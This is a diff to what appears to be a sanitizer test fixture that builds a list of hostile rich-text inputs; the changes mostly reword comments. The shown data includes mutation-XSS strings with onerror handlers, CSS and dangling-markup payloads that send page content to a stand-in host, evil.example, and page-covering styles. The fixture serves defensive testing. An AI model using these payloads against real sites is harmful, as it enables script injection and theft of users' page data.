@@ -1,7 +1,7 @@
-/** Where hostile text would send what it finds. */
+/** The host that hostile text tries to reach. */
 export const foreignHost = 'evil.example'
 
-/** What hostile text would run; a page that watches defines it. */
+/** The function that hostile text tries to call; a page under test defines it. */
 const call = 'hostileHit()'
 const foreign = `https://${foreignHost}/x`
 
@@ -72,7 +72,7 @@ const places: ((address: string) => string)[] = [
 ]
 const addressed = schemes.flatMap((scheme) => places.map((place) => place(scheme)))
 
-/** What a parser puts together differently the second time, or in another namespace. */
+/** Markup that changes when parsed twice, or in another namespace. */
 const mutating = [
   `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
@@ -153,7 +153,7 @@ const mutating = [
   `<p popover id=x onbeforetoggle=${call}>x</p><button popovertarget=x>x</button>`,
 ]
 
-/** Styles, names that scripts look up, and whatever changes the page around the text. */
+/** Styles, ids that scripts look up, and markup that changes the page around the text. */
 const disguising = [
   `<p style="background:url(${foreign})">x</p>`,
   `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
@@ -181,7 +181,7 @@ const disguising = [
   '<dialog open>x</dialog>',
 ]
 
-/** Markup left open, to swallow what follows and send it somewhere. */
+/** Unclosed markup that would include the following content in a request. */
 const dangling = [
   `<img src='${foreign}?`,
   `<img src="${foreign}?`,
@@ -221,7 +221,6 @@ const dangling = [
   '<template>',
 ]
 
-/** Rich text that means harm, none of it twice: more than 300 inputs of every family that is known to work somewhere. */
 export const hostileRichText: readonly string[] = [
   ...new Set([...handled, ...addressed, ...mutating, ...disguising, ...dangling]),
 ]
